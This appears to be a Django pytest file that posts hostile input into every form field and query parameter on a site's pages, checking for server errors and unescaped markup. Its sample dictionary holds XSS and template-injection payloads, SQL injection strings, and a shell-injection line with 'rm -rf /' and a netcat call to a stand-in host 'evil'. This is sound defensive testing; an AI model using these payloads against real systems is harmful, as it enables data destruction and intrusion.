"""Hostile text in every field of every form: no fault of ours, and nothing of it runs (H068-H076).

The forms are found on the pages themselves, so a new one is tried from its first day.
"""

import pytest
from django.db import transaction
from django.forms import BaseForm

from tests.cast import sign_in
from tests.project.doors import Page, address, hidden, pages, stands_for
from tests.project.named_rights import World

pytestmark = pytest.mark.django_db

PAGES = [
    page
    for page in pages()
    if page.app != "api"
    and page.name not in {"account_logout", "policy_reports", "sign_in_as", "set_language"}
    and page.name != "referrals:report_form"  # 503 until a worker has made the PDF
    and all(stands_for(page, name) is not None for name in page.parameters)
]
MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}}${7*7}%(x)s{0.__class__}'
HOSTILE = {
    "markup": MARKUP,
    "SQL": "' OR 1=1--\") UNION SELECT pg_sleep(9); \\' %27 \N{MODIFIER LETTER APOSTROPHE} OR 1=1",
    "a shell": "; rm -rf / $(id) `id` | nc evil 1\nx",
    "NUL and controls": "a\0b\x01\x1b[31m\x85\x9f",
    "invisible": "\ufeff\u200b\u200b\t",
    "turned": "\u202eexe.fdp\u2066 ŵ\u0302 😀",
    "a number": "1e309",
    "long": "x" * 70_000,
}
# What a browser may never be given of the first: it would be markup.
UNESCAPED = ("<script>alert(1)", "<img src=x")


@pytest.fixture
def world(request) -> World:
    return World(request.getfixturevalue)


def forms_in(answer) -> list[BaseForm]:
    contexts = answer.context if answer.context is not None else []
    found = [
        value
        for context in contexts
        for layer in (context if isinstance(context, list) else [context])
        for value in getattr(layer, "flatten", dict)().values()
        if isinstance(value, BaseForm)
    ]
    return list({id(form): form for form in found}.values())


def filled(form: BaseForm, text: str) -> dict[str, str]:
    """Return the text in every field, under each name that its widget reads."""
    told: dict[str, str] = {}
    for bound in form:
        name = bound.html_name
        told |= {name: text, f"{name}_day": text, f"{name}_month": text, f"{name}_year": text}
    return told


@pytest.mark.parametrize("page", PAGES, ids=str)
def test_a_form_takes_anything(client, world, page: Page):
    where = address(page, world)
    insiders = sorted({named.insider for named in hidden(page)}) or ["nia"]
    if not page.is_public:
        sign_in(client, world.fixture(insiders[0]))
    shown = client.get(where)
    assert shown.status_code < 500
    forms = forms_in(shown)

    for kind, text in HOSTILE.items():
        for form in forms:
            for method in ("post", "get"):
                if method == "get" and len(text) > 2_000:
                    continue
                with transaction.atomic():  # whatever was taken is undone before the next
                    answer = getattr(client, method)(where, filled(form, text))
                    transaction.set_rollback(True)
                assert answer.status_code < 500, (kind, method)
                if not answer.streaming:
                    body = answer.content.decode(errors="replace")
                    assert not [raw for raw in UNESCAPED if raw in body], (kind, method)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_query_takes_anything(client, world, nia, text):
    """Filters, orders, pages and what no page asks for."""
    sign_in(client, nia)
    names = ("q", "page", "order", "sort", "before", "next", "agency", "quarter", "format", "of")
    asked = dict.fromkeys((*names, "_connector", "id__in", "report__concern__gt"), text[:2_000])

    for page in PAGES:
        if page.parameters:
            continue
        answer = client.get(address(page, world), asked)
        assert answer.status_code < 500, page
        if not answer.streaming:
            body = answer.content.decode(errors="replace")
            assert not [raw for raw in UNESCAPED if raw in body], page
